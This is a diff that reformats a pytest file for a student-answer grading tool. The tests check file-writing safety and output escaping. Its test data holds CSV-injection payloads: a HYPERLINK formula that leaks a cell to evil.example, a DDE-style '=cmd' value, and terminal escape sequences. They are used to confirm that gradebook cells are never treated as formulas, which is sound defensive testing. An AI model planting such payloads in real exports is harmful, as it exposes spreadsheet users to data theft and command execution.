@@ -27,11 +27,20 @@ from cnncheck.textsafe import shown_path
 ROOT = Path(__file__).resolve().parent.parent
 EXAMPLE = ROOT / "answers.example.yaml"
 HANG = 20  # seconds: a hang detector, not a timing assertion
-FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection: the characters a spreadsheet runs
+FORMULA = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+)  # OWASP, CSV injection: the characters a spreadsheet runs
 
 
 def run(*args, env=None):
-    return CliRunner().invoke(cli, [os.fspath(a) for a in args], env={"COLUMNS": "200", **(env or {})})
+    return CliRunner().invoke(
+        cli, [os.fspath(a) for a in args], env={"COLUMNS": "200", **(env or {})}
+    )
 
 
 def grade_json(*more):
@@ -69,7 +78,9 @@ def test_fifo_is_written_through_not_replaced(tmp_path, report_text):
     assert r.exit_code == 1, r.output
     assert not reader.is_alive(), "nothing was written into the FIFO"
     assert got == [report_text.encode()]
-    assert stat.S_ISFIFO(os.stat(fifo).st_mode)  # still the FIFO, not a regular file renamed over it
+    assert stat.S_ISFIFO(
+        os.stat(fifo).st_mode
+    )  # still the FIFO, not a regular file renamed over it
     assert leftovers(tmp_path) == []
 
 
@@ -191,7 +202,9 @@ def test_mode_of_a_replaced_file_is_kept(tmp_path, mode):
 def test_owner_of_a_replaced_file_is_kept(tmp_path):
     out = tmp_path / "grades.csv"
     out.write_text("old\n")
-    owner = (12345, 12346) if os.geteuid() == 0 else (os.getuid(), os.getgid())  # only root may give files away
+    owner = (
+        (12345, 12346) if os.geteuid() == 0 else (os.getuid(), os.getgid())
+    )  # only root may give files away
     os.chown(out, *owner)
     r = run("grade", EXAMPLE, "--csv", out)
     assert r.exit_code == 1, r.output
@@ -229,8 +242,11 @@ def test_file_the_user_may_not_write_is_kept(tmp_path, monkeypatch):
     out.chmod(0o444)
     if os.geteuid() == 0:  # root may write anything: the system says no as it would to a user
         real_access = os.access
-        monkeypatch.setattr(fileio.os, "access",
-                            lambda path, mode, **k: mode != os.W_OK and real_access(path, mode, **k))
+        monkeypatch.setattr(
+            fileio.os,
+            "access",
+            lambda path, mode, **k: mode != os.W_OK and real_access(path, mode, **k),
+        )
     r = grade_json("-o", out)
     monkeypatch.undo()
     assert r.exit_code == 2
@@ -327,8 +343,13 @@ def test_file_size_limit(tmp_path):
         from cnncheck.cli import main
         main()
     """)
-    p = subprocess.run([sys.executable, "-c", code, "grade", str(EXAMPLE), "--format", "json", "-o", str(out)],
-                       capture_output=True, text=True, timeout=60, cwd=tmp_path)
+    p = subprocess.run(
+        [sys.executable, "-c", code, "grade", str(EXAMPLE), "--format", "json", "-o", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=tmp_path,
+    )
     assert p.returncode == 2, p.stderr
     assert p.stderr == error_line(out) + "File too large\n"
     assert out.read_text() == "old\n"
@@ -354,7 +375,9 @@ def test_read_only_file_system(tmp_path, monkeypatch):
 
 
 def test_folder_that_takes_no_new_file(tmp_path):
-    if os.geteuid() == 0:  # root writes anywhere a permission allows: /proc takes no new file, whoever asks
+    if (
+        os.geteuid() == 0
+    ):  # root writes anywhere a permission allows: /proc takes no new file, whoever asks
         out, reason = Path("/proc") / "report.json", "No such file or directory"
     else:
         (tmp_path / "ro").mkdir()
@@ -382,7 +405,9 @@ def latin1_class(tmp_path):
     """A class folder with a file named in Latin-1 (``café.yaml``) and an unreadable one (``bad\\xff.yaml``)."""
     folder = tmp_path / "class"
     folder.mkdir()
-    good = folder / os.fsdecode(b"caf\xe9.yaml")  # Python keeps the byte as a lone surrogate, \udce9
+    good = folder / os.fsdecode(
+        b"caf\xe9.yaml"
+    )  # Python keeps the byte as a lone surrogate, \udce9
     shutil.copy(EXAMPLE, good)
     bad = folder / os.fsdecode(b"bad\xff.yaml")
     bad.write_text("answers: [\n")
@@ -423,15 +448,20 @@ def test_non_utf8_names_in_the_gradebook(tmp_path, latin1_class):
     r = run("grade", folder, "--csv", tmp_path / "grades.csv", "--summary")
     assert r.exit_code == 2, r.output
     rows = list(csv.reader(io.StringIO(_utf8(tmp_path / "grades.csv"))))
-    assert [row[0] for row in rows[1:]] == [str(bad).replace("\udcff", "\\udcff"),
-                                            str(good).replace("\udce9", "\\udce9")]
+    assert [row[0] for row in rows[1:]] == [
+        str(bad).replace("\udcff", "\\udcff"),
+        str(good).replace("\udce9", "\\udce9"),
+    ]
 
 
 def test_escapes_in_a_name_and_an_answer(tmp_path):
     # YAML's own escapes: the C reader refuses a lone surrogate (\\udce9), so escapes are what a file can hold
     answers = tmp_path / "answers.yaml"
-    answers.write_text(EXAMPLE.read_text().replace("student: jdoe", 'student: "j\\x1b[2J\\u00e9"')
-                       .replace("q6: Because the network gets deeper.", 'q6: "\\x07Because\\x1b]0;t\\x07 deeper."'))
+    answers.write_text(
+        EXAMPLE.read_text()
+        .replace("student: jdoe", 'student: "j\\x1b[2J\\u00e9"')
+        .replace("q6: Because the network gets deeper.", 'q6: "\\x07Because\\x1b]0;t\\x07 deeper."')
+    )
     for fmt in ("json", "csv", "junit", "github", "gradescope", "table"):
         out = tmp_path / f"r.{fmt}"
         r = run("grade", answers, "--format", fmt, "-o", out)
@@ -442,7 +472,10 @@ def test_escapes_in_a_name_and_an_answer(tmp_path):
             assert "j\\x1b[2Jé" in text.replace("\\\\", "\\"), fmt
     data = json.loads((tmp_path / "r.json").read_text())
     assert data["student"] == "j\\x1b[2Jé"
-    assert next(q for q in data["questions"] if q["id"] == "q6")["answer"] == "\\x07Because\\x1b]0;t\\x07 deeper."
+    assert (
+        next(q for q in data["questions"] if q["id"] == "q6")["answer"]
+        == "\\x07Because\\x1b]0;t\\x07 deeper."
+    )
 
 
 # --- a gradebook no spreadsheet runs ----------------------------------------------------------------------------
@@ -462,8 +495,15 @@ questions:
     layer: {type: conv2d, filters: 4, kernel: 3}
 """
 
-STUDENTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"grades")', "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\\t=1+1", "\\r=1+1", "\\x1b[2Jjdoe"]
+STUDENTS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"grades")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\\t=1+1",
+    "\\r=1+1",
+    "\\x1b[2Jjdoe",
+]
 NAMES = ["=cmd.yaml", "+x.yaml", "-x.yaml", "@x.yaml", "\tx.yaml", "\rx.yaml", "a\x1b[2Jb.yaml"]
 
 
@@ -485,18 +525,40 @@ def test_gradebook_cells_are_never_formulas(tmp_path, monkeypatch):
     folder.mkdir()
     for i, (name, student) in enumerate(zip(NAMES, STUDENTS)):
         quoted = student.replace('"', '\\"')
-        (folder / name).write_text(textwrap.dedent(f"""\
+        (folder / name).write_text(
+            textwrap.dedent(f"""\
             student: "{quoted}"
             answers:
               "+q1": "=1+1\\n@SUM(A1)\\x1b[31m\\t-2 #{i}"
               "@q2": 4x6x6
-        """))
+        """)
+        )
     (folder / "=bad.yaml").write_text("answers: [\n")
     monkeypatch.chdir(folder)  # file names as given: the first characters of the file cells
-    r = run("--bank", bank, "grade", "--csv", tmp_path / "grades.csv", "--summary", "--", *NAMES, "=bad.yaml")
+    r = run(
+        "--bank",
+        bank,
+        "grade",
+        "--csv",
+        tmp_path / "grades.csv",
+        "--summary",
+        "--",
+        *NAMES,
+        "=bad.yaml",
+    )
     assert r.exit_code == 2, r.output
     rows = _check_cells(_utf8(tmp_path / "grades.csv"))
-    assert rows[0] == ["file", "student", "assignment", "'+q1", "'+q1 (answer)", "'@q2", "total", "max", "error"]
+    assert rows[0] == [
+        "file",
+        "student",
+        "assignment",
+        "'+q1",
+        "'+q1 (answer)",
+        "'@q2",
+        "total",
+        "max",
+        "error",
+    ]
     by_file = {row[0]: row for row in rows[1:]}
     assert by_file["'=bad.yaml"][8].startswith("'=bad.yaml:2: ")
     row = by_file["'=cmd.yaml"]
@@ -504,9 +566,15 @@ def test_gradebook_cells_are_never_formulas(tmp_path, monkeypatch):
     assert row[2] == "'=cmd|' /C calc'!A0"
     assert row[4] == "'=1+1\n@SUM(A1)\\x1b[31m\\t-2 #0"
     assert row[5:8] == ["1", "1", "2"]
-    assert by_file["\\tx.yaml"][1] == "'=1+1" and by_file["\\rx.yaml"][1] == "'=1+1"  # names are stripped
+    assert (
+        by_file["\\tx.yaml"][1] == "'=1+1" and by_file["\\rx.yaml"][1] == "'=1+1"
+    )  # names are stripped
     assert by_file["a\\x1b[2Jb.yaml"][1] == "\\x1b[2Jjdoe"
-    assert [by_file[n][1] for n in ("'+x.yaml", "'-x.yaml", "'@x.yaml")] == ["'+1+1", "'-2+3", "'@SUM(A1:A9)"]
+    assert [by_file[n][1] for n in ("'+x.yaml", "'-x.yaml", "'@x.yaml")] == [
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+    ]
 
 
 def test_gradebook_on_stdout_carries_nothing_raw(tmp_path):
@@ -571,7 +639,10 @@ def test_sheets_and_templates_of_a_question_graded_by_hand(by_hand_bank, tmp_pat
     assert "by hand: the answer waits for a TA" in r.stdout
     r = run("--bank", by_hand_bank, "generate", "-o", tmp_path / "sheet.md")
     assert r.exit_code == 0, r.output
-    assert "- **grading**: by hand: the answer waits for a TA (status manual)" in (tmp_path / "sheet.md").read_text()
+    assert (
+        "- **grading**: by hand: the answer waits for a TA (status manual)"
+        in (tmp_path / "sheet.md").read_text()
+    )
     r = run("--bank", by_hand_bank, "template")
     assert r.exit_code == 0, r.output
     assert "  # answer: a few sentences, in words\n  q1:\n" in r.stdout
